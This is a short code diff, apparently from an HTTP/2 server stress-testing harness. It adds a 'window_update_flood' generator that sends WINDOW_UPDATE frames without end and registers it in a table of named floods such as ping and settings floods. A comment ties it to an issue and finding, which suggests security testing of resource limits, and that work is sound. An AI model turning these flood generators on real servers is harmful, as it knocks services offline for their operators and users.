@@ -104,6 +104,12 @@ def body_hoarding() -> Iterator[bytes]:
         yield b"".join(w.frame(w.DATA, 0, sid, chunk) for _ in range(32))
 
 
+def window_update_flood() -> Iterator[bytes]:
+    chunk = w.window_update(0, 1) * 20000
+    while True:
+        yield chunk
+
+
 @dataclass(frozen=True)
 class Attack:
     name: str
@@ -121,6 +127,7 @@ ATTACKS = {a.name: a for a in [
     Attack("settings_flood_unread", settings_flood, reads=False),
     Attack("ping_flood", ping_flood),
     Attack("empty_data_flood", empty_data_flood),
+    Attack("window_update_flood", window_update_flood),
 ]}
 # resources held rather than work asked for (issue 14, finding 5)
 HOLDING = {a.name: a for a in [
